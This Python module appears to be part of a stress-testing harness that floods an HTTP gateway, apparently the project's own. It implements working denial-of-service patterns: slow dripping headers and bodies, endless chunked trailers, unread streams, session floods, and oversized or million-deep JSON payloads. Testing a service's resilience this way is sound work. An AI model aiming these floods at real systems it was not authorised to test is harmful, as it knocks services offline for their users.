"""Floods of the gateway over HTTP, one attacker's each. Each yields between its bursts."""

import contextlib
import json
import socket
from collections.abc import Callable, Iterator
from itertools import count

from attack import raw
from attack.tiers import Address

STUCK_S = 1.0  # that one burst may wait for the server
HALF = raw.POST + b'content-length: 1000\r\n\r\n{"text": "'
LONG = b'{"text": "' + b"a " * 500_000 + b'"}'
DEEP = b'{"text": ' + b"[" * 1_000_000


@contextlib.contextmanager
def impatient(address: Address) -> Iterator[socket.socket]:
    """A connection that gives up on a server that takes nothing."""
    with raw.connected(address) as connection:
        connection.settimeout(STUCK_S)
        yield connection


def held(address: Address, most: int, first: bytes, further: bytes) -> Iterator[None]:
    """So many connections that all began something and go on a little at a time; those that end are opened again."""
    with contextlib.ExitStack() as stack:
        connections: list[socket.socket] = []
        while True:
            for at in range(most):
                if at == len(connections):
                    connections.append(stack.enter_context(impatient(address)))
                    raw.send(connections[at], first)
                elif not raw.send(connections[at], further):
                    connections[at].close()
                    connections[at] = stack.enter_context(impatient(address))
                    raw.send(connections[at], first)
                if at % 10 == 0:
                    yield


def endless(address: Address, first: bytes, piece: bytes) -> Iterator[None]:
    """One request without end, again and again."""
    while True:
        with impatient(address) as connection:
            sent = raw.send(connection, first)
            while sent:
                yield
                sent = raw.send(connection, piece)
        yield


def trailers(address: Address) -> Iterator[None]:
    """Trailers without end after a chunked body."""
    return endless(address, raw.GET + b"transfer-encoding: chunked\r\n\r\n0\r\n", b"a:b\r\n" * 4000)


def heads(address: Address) -> Iterator[None]:
    """Headers without end."""
    return endless(address, raw.GET, b"a:b\r\n" * 4000)


def chunks(address: Address) -> Iterator[None]:
    """A body of tiny chunks without end, to a route that reads none."""
    return endless(address, raw.GET + b"transfer-encoding: chunked\r\n\r\n", b"1\r\na\r\n" * 3000)


def half_bodies(address: Address) -> Iterator[None]:
    """Questions whose bodies drip."""
    return held(address, 300, HALF, b"a")


def half_heads(address: Address) -> Iterator[None]:
    """Heads that drip."""
    return held(address, 300, raw.GET, b"a")


def event_streams(address: Address) -> Iterator[None]:
    """Event streams that are never read."""
    return held(address, 300, raw.GET.replace(b"/healthz", b"/api/models/events") + b"\r\n", b"")


def unread(address: Address) -> Iterator[None]:
    """Answers asked for and never read."""
    page = raw.GET.replace(b"/healthz", b"/api/openapi.json") + b"\r\n"
    return held(address, 20, page * 20, page)


def asked(address: Address, body: Callable[[int], bytes], connections: int = 16) -> Iterator[None]:
    """Questions over a few connections at once, each in a session of its own; answers are read and dropped."""
    with contextlib.ExitStack() as stack:
        fresh: list[socket.socket | None] = [None] * connections
        for number in count():
            at = number % connections
            connection = fresh[at] = fresh[at] or stack.enter_context(impatient(address))
            data = body(number)
            head = raw.POST + b"x-session: s%d\r\ncontent-length: %d\r\n\r\n" % (number, len(data))
            connection.setblocking(False)
            with contextlib.suppress(BlockingIOError, OSError):
                while connection.recv(1 << 16):
                    pass
            connection.settimeout(STUCK_S)
            if not raw.send(connection, head + data):
                fresh[at] = None
            if at == 0:
                yield


def fresh_sessions(address: Address) -> Iterator[None]:
    """Questions, each new and of a new session."""
    return asked(address, lambda number: json.dumps({"text": f"{number} girls", "model": "bundled"}).encode())


def long_texts(address: Address) -> Iterator[None]:
    """Texts of a million bytes."""
    return asked(address, lambda number: LONG, 4)


def deep_json(address: Address) -> Iterator[None]:
    """Lists a million deep."""
    return asked(address, lambda number: DEEP, 4)
